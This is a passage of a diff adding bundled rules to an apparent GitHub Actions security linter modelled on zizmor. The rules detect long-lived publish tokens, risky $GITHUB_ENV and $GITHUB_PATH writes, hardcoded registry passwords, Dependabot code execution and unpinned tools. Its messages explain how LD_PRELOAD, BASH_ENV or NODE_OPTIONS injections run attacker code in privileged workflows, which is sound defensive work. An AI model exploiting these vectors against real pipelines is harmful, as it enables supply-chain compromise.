+                        'so one written by a less trusted run can end up in what this job releases.',
+                    fix: `Build releases from a clean state: ${off}, or guard it with \${{ !startsWith(github.ref, 'refs/tags/') }}.`,
+                    subject: `${found.s.jobId}:${stepKey(found.s)}`,
+                });
+            }
+        }
+    },
+});
+
+;// CONCATENATED MODULE: ./src/rules/workflows/use-trusted-publishing.ts
+/**
+ * zizmor's use-trusted-publishing: a release is published with a long-lived token although the
+ * registry accepts Trusted Publishing (an OIDC identity minted per run, nothing to steal): PyPI,
+ * crates.io, npm, RubyGems and NuGet. Seen on the publishing actions (pypa/gh-action-pypi-publish
+ * `password:`, katyo/publish-crates `registry-token:`, JS-DevTools/npm-publish `token:`) and on the
+ * publishing commands of `run:` scripts given a token as an option or in their environment. A
+ * publish to another registry (a private index, GitHub Packages) is not reported.
+ */
+
+
+
+
+
+
+const PYPI_HOSTS = /^(?:https?:\/\/)?(?:upload\.|test\.)?pypi\.org(?:[/:]|$)|^(?:pypi|testpypi)$/i;
+const PUBLISHERS = {
+    'uv publish': {
+        registry: 'PyPI',
+        tokenOptions: ['--token', '-t', '--password', '-p'],
+        tokenEnv: ['UV_PUBLISH_TOKEN', 'UV_PUBLISH_PASSWORD'],
+        targetOptions: ['--publish-url', '--index'],
+        targetEnv: ['UV_PUBLISH_URL', 'UV_PUBLISH_INDEX'],
+        hosts: PYPI_HOSTS,
+    },
+    'twine upload': {
+        registry: 'PyPI',
+        tokenOptions: ['--password', '-p'],
+        tokenEnv: ['TWINE_PASSWORD'],
+        targetOptions: ['--repository-url', '--repository', '-r'],
+        targetEnv: ['TWINE_REPOSITORY_URL', 'TWINE_REPOSITORY'],
+        hosts: PYPI_HOSTS,
+    },
+    'poetry publish': {
+        registry: 'PyPI',
+        tokenOptions: ['--password', '-p'],
+        tokenEnv: ['POETRY_PYPI_TOKEN_PYPI', 'POETRY_HTTP_BASIC_PYPI_PASSWORD'],
+        targetOptions: ['--repository', '-r'],
+        targetEnv: [],
+        hosts: PYPI_HOSTS,
+    },
+    'hatch publish': {
+        registry: 'PyPI',
+        tokenOptions: ['--auth', '-a'],
+        tokenEnv: ['HATCH_INDEX_AUTH'],
+        targetOptions: ['--repo', '-r'],
+        targetEnv: ['HATCH_INDEX_REPO'],
+        hosts: /^(?:main|test|(?:https?:\/\/)?(?:upload\.|test\.)?pypi\.org(?:[/:]|$))/i,
+    },
+    'pdm publish': {
+        registry: 'PyPI',
+        tokenOptions: ['--password', '-P'],
+        tokenEnv: ['PDM_PUBLISH_PASSWORD'],
+        targetOptions: ['--repository', '-r'],
+        targetEnv: ['PDM_PUBLISH_REPO'],
+        hosts: PYPI_HOSTS,
+    },
+    'cargo publish': {
+        registry: 'crates.io',
+        tokenOptions: ['--token'],
+        tokenEnv: ['CARGO_REGISTRY_TOKEN'],
+        targetOptions: ['--registry', '--index'],
+        targetEnv: [],
+        hosts: /^(?:crates-io|(?:https?:\/\/|sparse\+https:\/\/)?(?:index\.)?crates\.io(?:[/:]|$))/i,
+    },
+    'npm publish': {
+        registry: 'npm',
+        tokenOptions: [],
+        tokenEnv: ['NODE_AUTH_TOKEN', 'NPM_TOKEN'],
+        targetOptions: ['--registry'],
+        targetEnv: ['NPM_CONFIG_REGISTRY'],
+        hosts: /^(?:https?:\/\/)?registry\.npmjs\.org(?:[/:]|$)/i,
+    },
+    'gem push': {
+        registry: 'RubyGems',
+        tokenOptions: ['--key', '-k'],
+        tokenEnv: ['GEM_HOST_API_KEY'],
+        targetOptions: ['--host'],
+        targetEnv: ['RUBYGEMS_HOST'],
+        hosts: /^(?:https?:\/\/)?rubygems\.org(?:[/:]|$)/i,
+    },
+    'nuget push': {
+        registry: 'NuGet',
+        tokenOptions: ['--api-key', '-k', '-ApiKey'],
+        tokenEnv: [],
+        targetOptions: ['--source', '-s', '-Source'],
+        targetEnv: [],
+        hosts: /^(?:https?:\/\/)?(?:api\.|www\.)?nuget\.org(?:[/:]|$)|^nuget\.org$/i,
+    },
+};
+/** The publishing subcommand a command runs, as a PUBLISHERS key. */
+function publisherOf(rc) {
+    const words = rc.args.map((a) => a.value);
+    const uv = uvInvocation(rc.name, rc.args);
+    if (uv?.subcommand === 'publish')
+        return { key: 'uv publish', args: uv.args.map((a) => a.value) };
+    const name = rc.name.toLowerCase();
+    if (/^python[\d.]*$/.test(name) && words[0] === '-m')
+        return publisherOf({ ...rc, name: words[1] ?? '', args: rc.args.slice(2) });
+    if (name === 'twine' && words[0] === 'upload')
+        return { key: 'twine upload', args: words.slice(1) };
+    if ((name === 'npm' || name === 'pnpm') && words[0] === 'publish')
+        return { key: 'npm publish', args: words.slice(1) };
+    if (name === 'yarn' && words[0] === 'npm' && words[1] === 'publish')
+        return { key: 'npm publish', args: words.slice(2) };
+    if (name === 'dotnet' && words[0] === 'nuget' && words[1] === 'push')
+        return { key: 'nuget push', args: words.slice(2) };
+    const key = `${name} ${words[0] ?? ''}`;
+    return key in PUBLISHERS && key !== 'nuget push'
+        ? { key, args: words.slice(1) }
+        : name === 'nuget' && words[0] === 'push'
+            ? { key: 'nuget push', args: words.slice(1) }
+            : undefined;
+}
+/** The value of an option (`--token X` or `--token=X`). */
+function optionValue(args, names) {
+    for (let i = 0; i < args.length; i++) {
+        for (const name of names) {
+            if (args[i] === name)
+                return args[i + 1] ?? '';
+            if (args[i].startsWith(`${name}=`))
+                return args[i].slice(name.length + 1);
+        }
+    }
+    return undefined;
+}
+/** A variable as the command sees it: on the command, `export`ed, or in step, job or workflow `env:`. */
+function envOf(rc, name) {
+    const direct = rc.env.get(name);
+    if (direct !== undefined)
+        return direct;
+    for (const holder of [get(rc.step, 'env'), get(rc.jobNode, 'env'), rc.wf.kind === 'workflow' ? get(rc.wf.doc.contents, 'env') : undefined]) {
+        for (const [key, , value] of entries(holder))
+            if (key === name)
+                return (0,dist/* isScalar */.jn)(value) ? String(value.value ?? '') : '';
+    }
+    return undefined;
+}
+/** setup-node's `registry-url` in the command's job, if one is set (NODE_AUTH_TOKEN is written for it). */
+function nodeRegistryOf(rc) {
+    for (const step of get(rc.jobNode, 'steps')?.items ?? []) {
+        if (usesAction(str(get(step, 'uses')), 'actions/setup-node')) {
+            const url = str(get(get(step, 'with'), 'registry-url'));
+            if (url)
+                return url;
+        }
+    }
+    return undefined;
+}
+const use_trusted_publishing_rule = defineRule({
+    meta: {
+        id: 'use-trusted-publishing',
+        defaultSeverity: 'notice',
+        summary: 'A release is published with a long-lived token where the registry offers Trusted Publishing.',
+        on: 'workflows',
+    },
+    check(ctx, report) {
+        for (const wf of ctx.workflows) {
+            const message = (how, registry) => `${how} publishes to ${registry} with a long-lived token; ${registry} accepts Trusted Publishing, where each run gets a short-lived identity ` +
+                'from GitHub (OIDC) and there is no token to leak, rotate or steal from the secrets.';
+            const fix = (registry, step) => `Register this workflow as a trusted publisher on ${registry}, give the job permissions: id-token: write, and ${step}.`;
+            for (const s of stepsInContext(wf)) {
+                const usesNode = get(s.step, 'uses');
+                const uses = str(usesNode)?.trim() ?? '';
+                const withNode = get(s.step, 'with');
+                const key = `${s.jobId}:${stepKey(s)}`;
+                const action = uses.slice(0, Math.max(0, uses.lastIndexOf('@'))).toLowerCase();
+                const input = (name) => getPair(withNode, name);
+                const filled = (name) => (str(input(name)?.value) ?? '').trim() !== '';
+                let found;
+                if (action === 'pypa/gh-action-pypi-publish' && filled('password')) {
+                    const url = str(input('repository-url')?.value) ?? str(input('repository_url')?.value);
+                    if (url === undefined || PYPI_HOSTS.test(url.trim()))
+                        found = { pair: input('password'), registry: 'PyPI', step: 'delete password:' };
+                }
+                else if (action === 'katyo/publish-crates' && filled('registry-token')) {
+                    found = { pair: input('registry-token'), registry: 'crates.io', step: 'get the token from rust-lang/crates-io-auth-action instead of a secret' };
+                }
+                else if (action === 'js-devtools/npm-publish' && filled('token')) {
+                    const registry = str(input('registry')?.value);
+                    if (registry === undefined || PUBLISHERS['npm publish'].hosts.test(registry.trim()))
+                        found = { pair: input('token'), registry: 'npm', step: 'publish with npm publish (npm 11.5 or later) without a token' };
+                }
+                if (!found?.pair)
+                    continue;
+                const pos = posOf(wf, found.pair.key);
+                report({
+                    file: wf.file,
+                    line: pos.line,
+                    column: pos.column,
+                    message: message(action, found.registry),
+                    fix: fix(found.registry, found.step),
+                    subject: key,
+                });
+            }
+            const flagged = [];
+            for (const rc of runCommands(wf)) {
+                const publisher = publisherOf(rc);
+                if (!publisher)
+                    continue;
+                const spec = PUBLISHERS[publisher.key];
+                const target = optionValue(publisher.args, spec.targetOptions) ?? spec.targetEnv.map((name) => envOf(rc, name)).find((v) => v !== undefined);
+                if (target !== undefined && !spec.hosts.test(target.trim()))
+                    continue;
+                if (publisher.key === 'npm publish') {
+                    const registry = nodeRegistryOf(rc);
+                    if (registry !== undefined && !spec.hosts.test(registry.trim()))
+                        continue;
+                }
+                // A token minted in the job (`${{ steps.auth.outputs.token }}` from crates-io-auth-action or the like) is Trusted Publishing already.
+                const manual = (value) => (value ?? '').trim() !== '' && !/\bsteps\.[^.\s]+\.outputs\./.test(value ?? '');
+                const token = manual(optionValue(publisher.args, spec.tokenOptions)) || spec.tokenEnv.some((name) => manual(envOf(rc, name)));
+                if (!token)
+                    continue;
+                flagged.push({ rc, registry: spec.registry, text: commandText(rc) });
+            }
+            const subjects = occurrenceSubjects(flagged, (f) => `${f.rc.job}:${f.text}`);
+            flagged.forEach((f, i) => {
+                report({
+                    file: wf.file,
+                    line: f.rc.line,
+                    message: message(`\`${f.text}\``, f.registry),
+                    fix: fix(f.registry, 'remove the token from the command and its env:'),
+                    subject: subjects[i],
+                });
+            });
+        }
+    },
+});
+
+;// CONCATENATED MODULE: ./src/rules/workflows/github-env.ts
+/**
+ * zizmor's github-env: a step writes to $GITHUB_ENV or $GITHUB_PATH where what it writes may come
+ * from an attacker. In a workflow that runs on pull_request_target or workflow_run (privileged, often
+ * handling a fork's artifacts or refs), a written `LD_PRELOAD=` / `BASH_ENV=` / `NODE_OPTIONS=` or a
+ * PATH entry runs the attacker's code in every later step. A composite action cannot know its
+ * callers' triggers, so there every write is reported, as zizmor does.
+ */
+
+
+
+
+
+const PRIVILEGED_TRIGGERS = ['pull_request_target', 'workflow_run'];
+const github_env_rule = defineRule({
+    meta: {
+        id: 'github-env',
+        defaultSeverity: 'warning',
+        defaultConfidence: 'low',
+        summary: 'A privileged workflow or a composite action writes to $GITHUB_ENV or $GITHUB_PATH.',
+        on: 'workflows',
+    },
+    check(ctx, report) {
+        for (const wf of ctx.workflows) {
+            let why;
+            if (wf.kind === 'action')
+                why = 'in a composite action, which any workflow (a privileged one included) may call';
+            else if (wf.kind === 'workflow') {
+                const privileged = triggersOf(wf)
+                    .map((t) => t.name)
+                    .filter((name) => PRIVILEGED_TRIGGERS.includes(name));
+                if (privileged.length === 0)
+                    continue;
+                why = `in a workflow triggered by ${[...new Set(privileged)].join(' and ')}, which runs with write access and secrets on events a fork can cause`;
+            }
+            else
+                continue;
+            const writes = envFileWrites(wf);
+            const subjects = occurrenceSubjects(writes, (w) => `${w.rc.job}:${w.file}:${commandText(w.rc)}`);
+            writes.forEach((write, i) => {
+                const effect = write.file === 'GITHUB_ENV'
+                    ? 'sets environment variables for every later step of the job; if any part of the text comes from the event, an artifact or a fork, a variable such as BASH_ENV, LD_PRELOAD or NODE_OPTIONS runs attacker code there'
+                    : 'puts a directory first on PATH for every later step of the job; if it comes from the event, an artifact or a fork, later commands run attacker programs';
+                report({
+                    file: wf.file,
+                    line: write.rc.line,
+                    message: `\`${commandText(write.rc)}\` writes to $${write.file} ${why}: it ${effect}.`,
+                    fix: write.file === 'GITHUB_ENV'
+                        ? 'Pass the value to the steps that need it through step outputs ($GITHUB_OUTPUT, read as ${{ steps.<id>.outputs.<name> }} into env:) instead of $GITHUB_ENV; if it must stay, write only fixed names and validated values.'
+                        : 'Call the tool by its full path instead of adding to $GITHUB_PATH; if it must stay, add only a fixed directory the job created itself.',
+                    subject: subjects[i],
+                });
+            });
+        }
+    },
+});
+
+;// CONCATENATED MODULE: ./src/rules/workflows/hardcoded-container-credentials.ts
+/**
+ * zizmor's hardcoded-container-credentials: a job's `container:` or a `services:` entry whose
+ * `credentials.password` is written in the workflow instead of read from a secret. The finding never
+ * repeats the password.
+ */
+
+
+
+
+const hardcoded_container_credentials_rule = defineRule({
+    meta: {
+        id: 'hardcoded-container-credentials',
+        defaultSeverity: 'error',
+        summary: 'A container or service has its registry password written in the workflow.',
+        on: 'workflows',
+    },
+    check(ctx, report) {
+        for (const wf of ctx.workflows) {
+            for (const job of jobsOf(wf)) {
+                const sites = [{ where: 'container', node: get(job.node, 'container') }];
+                for (const [name, , node] of entries(get(job.node, 'services')))
+                    sites.push({ where: `services.${name}`, node });
+                for (const { where, node } of sites) {
+                    if (!(0,dist/* isMap */.jh)(node))
+                        continue;
+                    const pair = getPair(get(node, 'credentials'), 'password');
+                    const password = str(pair?.value);
+                    // An expression (`${{ secrets.X }}`) is the fix; an empty value is no credential.
+                    if (!pair || password === undefined || password.trim() === '' || hasExpression(password))
+                        continue;
+                    const pos = posOf(wf, pair.key);
+                    report({
+                        file: wf.file,
+                        line: pos.line,
+                        column: pos.column,
+                        message: `Job ${job.id} writes the registry password of its ${where} in the workflow file (credentials.password): ` +
+                            'anyone who can read the repository, its forks or its history can log in to that registry as this account.',
+                        fix: 'Revoke that password now (it is in the git history), store a new one as a secret and write password: ${{ secrets.REGISTRY_PASSWORD }}.',
+                        subject: `${job.id}:${where}`,
+                    });
+                }
+            }
+        }
+    },
+});
+
+;// CONCATENATED MODULE: ./src/rules/workflows/dependabot-execution.ts
+/**
+ * zizmor's dependabot-execution: a dependabot.yml `updates:` entry with
+ * `insecure-external-code-execution: allow` lets Dependabot run code from the manifests it updates
+ * (setup.py, gemspecs, Gradle scripts…) with the entry's registry credentials at hand.
+ */
+
+
+
+const dependabot_execution_rule = defineRule({
+    meta: {
+        id: 'dependabot-execution',
+        defaultSeverity: 'error',
+        summary: 'A Dependabot ecosystem may run code from the dependencies it updates.',
+        on: 'workflows',
+    },
+    check(ctx, report) {
+        for (const wf of ctx.workflows) {
+            for (const update of dependabotUpdates(wf)) {
+                const pair = getPair(update.entry, 'insecure-external-code-execution');
+                if (!pair || str(pair.value)?.trim().toLowerCase() !== 'allow')
+                    continue;
+                const pos = posOf(wf, pair.key);
+                report({
+                    file: wf.file,
+                    line: pos.line,
+                    column: pos.column,
+                    message: `Dependabot ${update.ecosystem} updates allow insecure external code execution: Dependabot then runs code from the manifests and ` +
+                        "packages it updates while resolving, with this entry's private registry credentials available to it; a compromised dependency gets them.",
+                    fix: 'Delete insecure-external-code-execution: allow (or set it to deny); if updates then fail, vendor or pre-build what needs code to resolve.',
+                    subject: update.subject,
+                });
+            }
+        }
+    },
+});
+
+;// CONCATENATED MODULE: ./src/rules/workflows/misfeature.ts
+/**
+ * zizmor's misfeature: features of GitHub Actions that work but should not be used.
+ * - `actions/setup-python` with `pip-install:` installs packages with pip outside any lock file,
+ *   unhashed and unreviewed (for a uv project: outside uv.lock).
+ * - `shell: cmd`: cmd.exe's quoting and `%VAR%` expansion make scripts easy to inject into and hard
+ *   to read; pwsh is the supported Windows shell.
+ * - A shell that is none of GitHub's well-known ones (a custom command such as `perl {0}`): the
+ *   script runs however that program reads it. Auditor persona only, as in zizmor.
+ */
+
+
+
+
+
+/** GitHub's named shells (docs: jobs.<job_id>.steps[*].shell). */
+const WELL_KNOWN_SHELLS = new Set(['bash', 'sh', 'pwsh', 'powershell', 'python', 'cmd']);
+const misfeature_rule = defineRule({
+    meta: {
+        id: 'misfeature',
+        defaultSeverity: 'notice',
+        summary: 'A workflow uses setup-python pip-install, shell: cmd, or a shell GitHub does not know.',
+        on: 'workflows',
+    },
+    check(ctx, report) {
+        for (const wf of ctx.workflows) {
+            for (const s of stepsInContext(wf)) {
+                const uses = str(get(s.step, 'uses'));
+                const pipInstall = getPair(get(s.step, 'with'), 'pip-install');
+                if (usesAction(uses, 'actions/setup-python') && pipInstall && (str(pipInstall.value) ?? '').trim() !== '') {
+                    const pos = posOf(wf, pipInstall.key);
+                    report({
+                        file: wf.file,
+                        line: pos.line,
+                        column: pos.column,
+                        message: 'actions/setup-python installs packages with pip-install:, outside any lock file: whatever the index serves at that moment is installed, unhashed and unreviewed.',
+                        fix: 'Delete pip-install: and install from the lock file in a run: step (uv sync --locked, or pip install --require-hashes -r requirements.txt).',
+                        subject: `${s.jobId}:${stepKey(s)}:pip-install`,
+                    });
+                }
+                shellSite(wf, get(s.step, 'shell'), `${s.jobId}:${stepKey(s)}`, report);
+            }
+            if (wf.kind !== 'workflow')
+                continue;
+            shellSite(wf, get(get(get(wf.doc.contents, 'defaults'), 'run'), 'shell'), 'defaults', report);
+            for (const job of jobsOf(wf))
+                shellSite(wf, get(get(get(job.node, 'defaults'), 'run'), 'shell'), `${job.id}:defaults`, report);
+        }
+    },
+});
+function shellSite(wf, node, subject, report) {
+    const shell = str(node)?.trim();
+    if (!shell || hasExpression(shell))
+        return;
+    const program = shell_basename(shell.split(/\s+/)[0] ?? '').toLowerCase();
+    const pos = posOf(wf, node);
+    if (program === 'cmd') {
+        report({
+            file: wf.file,
+            line: pos.line,
+            column: pos.column,
+            message: "shell: cmd runs the script with cmd.exe, whose quoting and %VAR% expansion make injection easy and errors silent (a failing line doesn't stop the script).",
+            fix: 'Use shell: pwsh (or bash) on Windows.',
+            subject: `${subject}:cmd`,
+        });
+    }
+    else if (!WELL_KNOWN_SHELLS.has(program)) {
+        report({
+            file: wf.file,
+            line: pos.line,
+            column: pos.column,
+            message: `shell: ${shell} is not one of GitHub's named shells (bash, sh, pwsh, powershell, python, cmd): the script runs however that program reads it.`,
+            fix: 'Use a named shell, or run the program from a bash step so reviewers see how the script is read.',
+            subject: `${subject}:shell`,
+            persona: 'auditor',
+        });
+    }
+}
+
+;// CONCATENATED MODULE: ./src/rules/workflows/github-app.ts
+
+
+
+
+const ACTION = 'actions/create-github-app-token';
+const github_app_rule = defineRule({
+    meta: {
+        id: 'github-app',
+        defaultSeverity: 'warning',
+        summary: 'actions/create-github-app-token makes a token broader or longer-lived than needed.',
+        on: 'workflows',
+    },
+    check(ctx, report) {
+        for (const wf of ctx.workflows) {
+            for (const s of stepsInContext(wf)) {
+                const usesNode = get(s.step, 'uses');
+                if (!usesAction(str(usesNode), ACTION))
+                    continue;
+                const withNode = get(s.step, 'with');
+                const key = `${s.jobId}:${stepKey(s)}`;
+                const at = (node) => posOf(wf, node ?? usesNode);
+                const skip = getPair(withNode, 'skip-token-revoke');
+                const skipValue = str(skip?.value)?.trim() ?? '';
+                if (skip && (skipValue.toLowerCase() === 'true' || hasExpression(skipValue))) {
+                    const pos = at(skip.key);
+                    const literal = !hasExpression(skipValue);
+                    report({
+                        file: wf.file,
+                        line: pos.line,
+                        column: pos.column,
+                        message: `${ACTION} ${literal ? 'keeps' : 'may keep'} its token valid after the job (skip-token-revoke): a token leaked by any step stays usable for up to an hour.`,
+                        fix: 'Delete skip-token-revoke so the action revokes the token when the job ends.',
+                        subject: `${key}:skip-token-revoke`,
+                        ...(literal ? { level: 'error' } : { confidence: 'low' }),
+                    });
+                }
+                const owner = getPair(withNode, 'owner');
+                if (owner && (str(owner.value) ?? '').trim() !== '' && !getPair(withNode, 'repositories')) {
+                    const pos = at(owner.key);
+                    report({
+                        file: wf.file,
+                        line: pos.line,
+                        column: pos.column,
+                        message: `${ACTION} is given owner: without repositories:, so its token reaches every repository of that owner the app is installed on, not only the ones this job needs.`,
+                        fix: 'Add repositories: with the repositories the job works on (one per line).',
+                        subject: `${key}:owner`,
+                    });
+                }
+                if (!entries(withNode).some(([name]) => name.startsWith('permission-'))) {
+                    const pos = at(usesNode);
+                    report({
+                        file: wf.file,
+                        line: pos.line,
+                        column: pos.column,
+                        message: `${ACTION} is given no permission-* input, so its token carries every permission the app was granted, not only what this job needs.`,
+                        fix: 'Add the permissions the job needs, e.g. permission-contents: write and permission-pull-requests: write.',
+                        subject: `${key}:permissions`,
+                    });
+                }
+            }
+        }
+    },
+});
+
+;// CONCATENATED MODULE: ./src/rules/workflows/unpinned-tool.ts
+/**
+ * zizmor's unpinned-tools: setup actions that download a tool at its newest release unless told a
+ * version: aquasecurity/setup-trivy and 1password/load-secrets-action. A compromised release of the
+ * tool then runs in the job the moment it is published.
+ */
+
+
+
+
+/** Action -> the tool it installs. Both read the tool version from a `version` input that defaults to `latest`. */
+const TOOL_ACTIONS = {
+    'aquasecurity/setup-trivy': 'Trivy',
+    '1password/load-secrets-action': 'the 1Password CLI',
+};
+const unpinned_tool_rule = defineRule({
+    meta: {
+        id: 'unpinned-tool',
+        defaultSeverity: 'warning',
+        summary: 'A setup action installs the latest release of its tool instead of a pinned version.',
+        on: 'workflows',
+    },
+    check(ctx, report) {
+        for (const wf of ctx.workflows) {
+            for (const s of stepsInContext(wf)) {
+                const usesNode = get(s.step, 'uses');
+                const uses = str(usesNode);
+                const action = Object.keys(TOOL_ACTIONS).find((repo) => usesAction(uses, repo));
+                if (!action)
+                    continue;
+                const tool = TOOL_ACTIONS[action];
+                const pair = getPair(get(s.step, 'with'), 'version');
+                const version = str(pair?.value)?.trim() ?? '';
+                const expression = hasExpression(version);
+                if (pair && version !== '' && version.toLowerCase() !== 'latest' && !expression)
+                    continue;
+                const pos = posOf(wf, pair ? pair.key : usesNode);
+                const what = !pair || version === '' ? 'without a version input' : expression ? `with version: ${version}, which may be latest` : 'with version: latest';
+                report({
+                    file: wf.file,
+                    line: pos.line,
+                    column: pos.column,
+                    message: `${action} is used ${what}, so it installs whatever release of ${tool} is newest when the job runs; a compromised release runs here the moment it is published.`,
+                    fix: `Set with: version: to an exact release of ${tool} (and update it in reviewed pull requests).`,
+                    subject: `${s.jobId}:${stepKey(s)}`,
+                    ...(expression ? { confidence: 'low' } : {}),
+                });
+            }
+        }
+    },
+});
+
+;// CONCATENATED MODULE: ./src/workflows/publishing.ts
+/**
+ * Which jobs publish a Python package, as facts: the workflow's release triggers (a `release` event,
+ * a tag push, a push to a branch named like a release, as zizmor's cache-poisoning audit reads them)
+ * and the steps that upload to an index (`pypa/gh-action-pypi-publish`, `uv publish`,
+ * `twine upload`, `poetry|hatch|flit|pdm publish`). The rules setup-uv-unpinned and
+ * uv-cache-in-publish read them.
+ */
+
+
+
+
+
+/** The workflow's triggers that are typically used for releases (they apply to every job). */
+function releaseTriggers(wf) {
+    const out = [];
+    for (const trigger of triggersOf(wf)) {
+        const line = posOf(wf, trigger.node).line;
+        if (trigger.name === 'release')
+            out.push({ kind: 'release-event', line });
+        if (trigger.name !== 'push')
+            continue;
+        // `tags-ignore: ["**"]` (with branches) means no tag runs: only `tags:` names a tag push.
+        if (patternsOf(get(trigger.config, 'tags')).length > 0)
+            out.push({ kind: 'tag-push', line });
+        if (patternsOf(get(trigger.config, 'branches')).some((b) => b.toLowerCase().includes('release')))
+            out.push({ kind: 'release-branch-push', line });
+    }
+    return out;
+}
+function patternsOf(node) {
+    if ((0,dist/* isSeq */.oP)(node))
+        return items(node).flatMap((n) => (str(n) !== undefined ? [str(n)] : []));
+    const one = str(node);
+    return one !== undefined ? [one] : [];
+}
+/** Events of a CI workflow (not a release workflow): a job there that neither builds nor uploads is not publishing. */
+const CI_EVENTS = new Set(['pull_request', 'pull_request_target', 'schedule', 'merge_group']);
+/** A workflow whose triggers are all release-like (release, tag push, manual or called): every job of it is release work. */
+function isReleaseWorkflow(wf) {
+    return triggersOf(wf).every((t) => {
+        if (CI_EVENTS.has(t.name))
+            return false;
+        if (t.name !== 'push')
+            return true;
+        return patternsOf(get(t.config, 'tags')).length > 0 && get(t.config, 'branches') === undefined && get(t.config, 'branches-ignore') === undefined;
+    });
+}
+/** The tools that build a distribution: `<tool> build`, `python -m build`, `pyproject-build`. */
+const BUILD_TOOLS = new Set(['uv', 'hatch', 'poetry', 'flit', 'pdm']);
+/** Jobs (job id, '' in an action) that build a distribution. */
+function buildingJobs(wf) {
+    const out = new Set();
+    for (const rc of runCommands(wf)) {
+        const name = rc.name.toLowerCase();
+        const uv = uvInvocation(rc.name, rc.args);
+        if (uv?.subcommand === 'build' ||
+            (BUILD_TOOLS.has(name) && name !== 'uv' && rc.args[0]?.value === 'build') ||
+            name === 'pyproject-build' ||
+            (/^python(\d+(\.\d+)?)?$/.test(name) && rc.args[0]?.value === '-m' && rc.args[1]?.value === 'build'))
+            out.add(rc.job);
+    }
+    return out;
+}
+/** The non-uv publish tools: `<tool> publish` (or `twine upload`). */
+const PUBLISH_SUBCOMMAND = { twine: 'upload', poetry: 'publish', hatch: 'publish', flit: 'publish', pdm: 'publish' };
+/** Steps of each job (job id, '' in an action) that upload a package to an index. */
+function publisherSteps(wf) {
+    const byJob = new Map();
+    const add = (job, reason) => {
+        const list = byJob.get(job) ?? [];
+        list.push(reason);
+        byJob.set(job, list);
+    };
+    for (const s of stepsInContext(wf)) {
+        const usesNode = get(s.step, 'uses');
+        const uses = str(usesNode);
+        if (usesAction(uses, 'pypa/gh-action-pypi-publish'))
+            add(s.jobId, { kind: 'publisher-action', line: posOf(wf, usesNode).line, uses: (uses ?? '').trim() });
+    }
+    for (const rc of runCommands(wf)) {
+        const name = rc.name.toLowerCase();
+        const uv = uvInvocation(rc.name, rc.args);
+        let command;
+        if (uv?.subcommand === 'publish')
+            command = 'uv publish';
+        else if (PUBLISH_SUBCOMMAND[name] !== undefined && rc.args[0]?.value === PUBLISH_SUBCOMMAND[name])
+            command = `${name} ${rc.args[0].value}`;
+        else if (/^python(\d+(\.\d+)?)?$/.test(name) && rc.args[0]?.value === '-m' && rc.args[1]?.value === 'twine' && rc.args[2]?.value === 'upload')
+            command = 'python -m twine upload';
+        // `uv run twine upload`, `uvx twine upload`: the same upload, run by uv.
+        else if ((uv?.subcommand === 'run' || uv?.subcommand === 'tool run') && /^twine(@|==|$)/.test(uv.args.find((a) => !a.value.startsWith('-'))?.value ?? ''))
+            command = uv.args.some((a) => a.value === 'upload') ? `${uv.subcommand === 'run' ? 'uv run' : 'uvx'} twine upload` : undefined;
+        if (command)
+            add(rc.job, { kind: 'publish-command', line: rc.line, command });
+    }
+    return byJob;
+}
+/** Per file: the reasons each job publishes (empty list: it does not). */
+const cache = new WeakMap();
+/**
+ * Why a job of the file publishes, empty when it does not: its own upload steps, then the
+ * workflow's release triggers when the job builds a distribution or the workflow is a release
+ * workflow (no pull-request, branch-push or schedule runs). A lint job of a CI workflow that also
+ * runs on tags is not release work.
+ */
+function publishReasons(wf, job) {
+    let facts = cache.get(wf);
+    if (!facts) {
+        const triggers = wf.kind === 'workflow' ? releaseTriggers(wf) : [];
+        facts = { triggers, releaseWorkflow: triggers.length > 0 && isReleaseWorkflow(wf), builds: buildingJobs(wf), steps: publisherSteps(wf) };
+        cache.set(wf, facts);
+    }
+    const own = facts.steps.get(job) ?? [];
+    return facts.releaseWorkflow || facts.builds.has(job) ? [...own, ...facts.triggers] : own;
+}
+/** One phrase for a reason, for messages: "it runs uv publish (line 30)". */
+function describePublishReason(reason) {
+    switch (reason.kind) {
+        case 'release-event':
+            return `the workflow runs on release events (line ${reason.line})`;
+        case 'tag-push':
+            return `the workflow runs on tag pushes (line ${reason.line})`;
+        case 'release-branch-push':
+            return `the workflow runs on pushes to a release branch (line ${reason.line})`;
+        case 'publisher-action':
+            return `the job uploads with ${reason.uses.replace(/@.*$/, '')} (line ${reason.line})`;
+        case 'publish-command':
+            return `the job runs ${reason.command} (line ${reason.line})`;
+    }
+}
+
+;// CONCATENATED MODULE: ./src/rules/workflows/setup-uv-unpinned.ts
+
+
+
+
+
+const setup_uv_unpinned_rule = defineRule({
+    meta: {
+        id: 'setup-uv-unpinned',
+        defaultSeverity: 'warning',
+        defaultConfidence: 'high',
+        summary: 'astral-sh/setup-uv installs whatever uv release is newest when the job runs.',
+        on: 'workflows',
+    },
+    check(ctx, report) {
+        for (const wf of ctx.workflows) {
+            const perJob = new Map();
+            for (const step of setupUvSteps(wf)) {
+                const nth = (perJob.get(step.s.jobId) ?? 0) + 1;
+                perJob.set(step.s.jobId, nth);
+                const request = requestOf(step, ctx);
+                if (!request)
+                    continue;
+                const reasons = publishReasons(wf, step.s.jobId);
+                const publishing = reasons.length > 0;
+                const pos = posOf(wf, step.version?.node ?? step.usesNode);
+                const job = step.s.jobId ? `job ${step.s.jobId}` : 'this action';
+                const what = request.what;
+                const consequence = publishing
+                    ? `; ${describePublishReason(reasons[0])}, so the uv that builds and uploads the release is one nobody tested, and a broken or compromised uv release reaches the publish step the day it is out.`
+                    : `; ${job} changes under you whenever uv is released.`;
+                report({
+                    file: wf.file,
+                    line: pos.line,
+                    column: pos.column,
+                    message: `${what}${consequence}`,
+                    fix: 'Pin the uv release you tested: with: version: "X.Y.Z" (what uv self version prints), or required-version = "==X.Y.Z" under [tool.uv] in pyproject.toml (uv.toml) for setup-uv v6 and later to read.',
+                    subject: `${step.s.jobId}:setup-uv#${nth}`,
+                    // Outside a publishing job an unpinned uv is hygiene: the pedantic persona's notice.
+                    level: publishing && request.kind !== 'range' ? 'warning' : 'notice',
+                    persona: publishing ? 'regular' : 'pedantic',
+                    confidence: request.confidence,
+                });
+            }
+        }
+    },
+});
+/** What uv the step asks for, when it is not a pinned release (undefined when pinned or not judgeable). */
+function requestOf(step, ctx) {
+    if (step.version)
+        return unpinned(classifyUvVersion(step.version.value), `\`version: ${step.version.value}\``, 'high');
+    // A version file (uv.toml, pyproject.toml, .tool-versions, requirements.txt, uv.lock) is the project's choice.
+    if (step.versionFile)
+        return undefined;
+    const major = step.major;
+    // v1 installs a fixed uv by default; v2 to v5 install the newest.
+    if (major === 1)
+        return undefined;
+    if (major !== undefined && major < 6) {
